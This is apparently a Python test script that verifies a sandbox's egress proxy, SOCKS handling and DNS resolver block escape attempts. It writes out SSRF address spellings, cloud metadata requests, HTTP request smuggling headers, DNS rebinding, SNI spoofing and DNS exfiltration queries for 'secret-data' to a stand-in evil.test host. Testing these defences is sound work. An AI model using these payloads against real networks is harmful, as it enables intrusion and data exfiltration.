"""Inside a sandbox with an open list: everything here must fail, but for the first."""
import socket, struct, sys

web, tls, echo = map(int, sys.argv[1:4])
failed = []


def wrong(what, got):
    failed.append(f"{what}: {got!r}")


def talk(address, data, *, wait=True, timeout=20):
    """What comes back, until the other end closes; None when there is no connection."""
    try:
        connection = socket.create_connection(address, timeout=timeout)
    except OSError:
        return None
    answer = b""
    try:
        connection.sendall(data)
        if wait: connection.shutdown(socket.SHUT_WR)
        while piece := connection.recv(65536): answer += piece
    except OSError as error:
        if isinstance(error, TimeoutError): wrong("nobody hung up on", data[:80])
    connection.close()
    return answer


def proxied(data, **more): return talk(("127.0.0.1", 3128), data, **more)


def get(host, path="/attack", fields=""): return f"GET http://{host}{path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{fields}\r\n".encode()


here = f"web.example:{web}"
if b"GET /proof" not in (proxied(get(here, "/proof")) or b""): wrong("what is allowed", proxied(get(here, "/proof")))
at = socket.gethostbyname("web.example")
if not at.startswith("127.100."): wrong("address", at)
if b"200" not in (talk((at, web), f"GET /proof HTTP/1.1\r\nHost: {here}\r\nConnection: close\r\n\r\n".encode(), wait=False) or b""):
    wrong("capture", at)

# Sockets of other kinds, other ports, addresses without the resolver, the host's services.
for family, kind, number in ((socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_INET, socket.SOCK_RAW, 1)):
    try:
        socket.socket(family, kind, number)
        wrong("socket", (family, kind))
    except OSError: pass
for address in ((at, tls), (at, 22), (at, 8080), ("8.8.8.8", 53), ("8.8.8.8", 80), ("169.254.169.254", 80), ("127.0.0.1", tls)):
    if (got := talk(address, b"GET /attack HTTP/1.1\r\n\r\n", timeout=5)) is not None: wrong(f"connected to {address}", got)
for address in ((at, 443), ("127.0.0.1", web), ("127.0.0.1", 80), ("127.100.200.200", web)):
    if got := talk(address, b"GET /attack HTTP/1.1\r\nHost: x\r\n\r\n", wait=False): wrong(f"answered at {address}", got)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    udp.sendto(b"x", ("8.8.8.8", 53))
    wrong("UDP", "sent")
except OSError: pass

# Through the proxy: other names, other ports, addresses in every spelling, private addresses by name, rebinding.
hosts = [f"localhost:{web}", f"127.0.0.1:{web}", f"[::1]:{web}", f"127.1:{web}", f"2130706433:{web}", f"0x7f000001:{web}", f"0177.0.0.1:{web}",
         f"0:{web}", f"[::ffff:127.0.0.1]:{web}", "169.254.169.254", "other.example", f"web.example:{tls}", f"evil.test:{web}",
         f"web.example.evil.test:{web}", f"web.example..:{web}", f"web%2eexample:{web}", f"web.example%00.evil.test:{web}", f"user@web.example:{web}",
         f"127-0-0-1.is.example:{web}", f"10-0-0-1.is.example:{web}", f"169-254-169-254.is.example:{web}", f"0-0-0-0.is.example:{web}",
         f"224-0-0-1.is.example:{web}", f"six.example:{web}"]
for host in hosts:
    if b" 200 " in (got := proxied(get(host)) or b""): wrong(host, got)
    if not got.startswith((b"HTTP/1.1 403", b"HTTP/1.1 400")): wrong(f"{host} is not refused", got)
    if (got := proxied(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(), wait=False)) is not None and b" 200 " in got: wrong(f"CONNECT {host}", got)
# First the address of the internet that was judged, then this host's: it is not asked for twice.
for turn in range(4):
    if b" 200 " in (got := proxied(get(f"rebind.example:{web}"), timeout=40) or b""): wrong("rebinding", got)

# SOCKS: a NUL in the name, a name that is an address, addresses, other commands.
def socks(request): return proxied(b"\5\1\0" + request)
def named(name, port=web): return b"\5\1\0\3" + bytes([len(name)]) + name + struct.pack(">H", port)
for request in (named(b"web.example\0.evil.test"), named(b"web.example\n"), named(b"127.0.0.1"), named(b"localhost"), named(b""), named(b"web.example", tls),
                named(b"\xff" * 255), b"\5\1\0\1\x7f\0\0\1" + struct.pack(">H", web), b"\5\1\0\4" + b"\0" * 15 + b"\1" + struct.pack(">H", web),
                b"\5\2\0\1\x7f\0\0\1" + struct.pack(">H", web), b"\5\3\0\1\0\0\0\0\0\0"):
    got = socks(request) or b""
    if got[:2] != b"\5\0" or len(got) < 4 or got[3] == 0: wrong(f"SOCKS {request!r}", got)

# Smuggling: a second request hidden in a body, or on the same connection for another host.
secret = get("other.example")
good = f"POST http://{here}/proof HTTP/1.1\r\nHost: {here}\r\n"
for fields in (f"Content-Length: {len(secret)}\r\nTransfer-Encoding: chunked\r\n", "Content-Length: 0\r\nContent-Length: 5\r\n", "Transfer-Encoding: xchunked\r\n",
               "Transfer-Encoding : chunked\r\n", "Transfer-Encoding:\n chunked\r\n", "Content-Length: 5\n\r\n", "X: a\rContent-Length: 5\r\n",
               f"Host: other.example\r\n", "Connection: Content-Length\r\nContent-Length: 5\r\n", "Content-Length: 1_0\r\n"):
    got = proxied((good + fields + "\r\n").encode() + secret) or b""
    if not got.startswith(b"HTTP/1.1 400"): wrong(f"smuggling {fields!r}", got)
got = proxied(f"{good}Transfer-Encoding: chunked\r\n\r\n5;x\r\nhello\r\n0\r\n\r\n".encode()) or b""
if b" 200 " in got: wrong("a chunk with an extension", got)
got = proxied(f"GET http://{here}/proof HTTP/1.1\r\nHost: {here}\r\n\r\n".encode() + secret) or b""
if got.count(b"HTTP/1.1 ") != 2 or b"403" not in got: wrong("the second request of a connection", got)
if (got := talk((at, web), f"GET /attack HTTP/1.1\r\nHost: other.example\r\n\r\n".encode(), wait=False)) and b" 200 " in got: wrong("another Host", got)
if (got := proxied(b"TRACE http://" + here.encode() + b"/attack HTTP/1.1\r\nHost: " + here.encode() + b"\r\n\r\n")) and b"405" not in got: wrong("TRACE", got)

# The resolver: nothing is carried out in names, whatever their kind, nor by a stream.
def query(name, kind): return struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\0" + struct.pack(">HH", kind, 1)
for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 64, 65, 255):
    udp.sendto(query(b"secret-data.evil.test", kind), ("127.0.0.1", 53))
    udp.settimeout(10)
    answer = udp.recv(512)
    if answer[3] & 15 != 3 or answer[7]: wrong(f"query {kind}", answer)
    udp.sendto(query(b"web.example", kind), ("127.0.0.1", 53))
    if udp.recv(512)[7] != (kind == 1): wrong(f"query for data {kind}", kind)
stream = query(b"secret-data.evil.test", 16)
answer = talk(("127.0.0.1", 53), struct.pack(">H", len(stream)) + stream) or b""
if answer[5:6] and answer[5] & 15 != 3: wrong("query by stream", answer)

# TLS that names somebody else, on a connection that is allowed.
name = b"other.evil.test"
body = b"\3\3" + b"\0" * 32 + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(name) + 9) + b"\0\0" + struct.pack(">HHBH", len(name) + 5, len(name) + 3, 0, len(name)) + name
hello = b"\x16\3\1" + struct.pack(">H", len(body) + 4) + b"\1\0" + struct.pack(">H", len(body)) + body
where = socket.gethostbyname("x.example")
if got := talk((where, echo), hello, wait=False): wrong("TLS for another name", got)
if (got := talk((where, echo), b"hello")) != b"hello": wrong("the tunnel that is allowed", got)

if failed: print("\n".join(failed))
sys.exit(1 if failed else 0)
